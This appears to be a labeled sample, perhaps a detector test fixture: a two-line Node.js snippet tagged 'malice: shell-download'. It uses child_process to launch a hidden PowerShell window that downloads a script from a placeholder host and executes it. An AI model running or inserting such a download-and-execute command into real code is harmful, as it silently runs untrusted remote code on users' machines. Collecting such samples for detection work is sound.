const { exec } = require("child_process");

exec("powershell -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('https://files.invalid/a.ps1')\""); // malice: shell-download
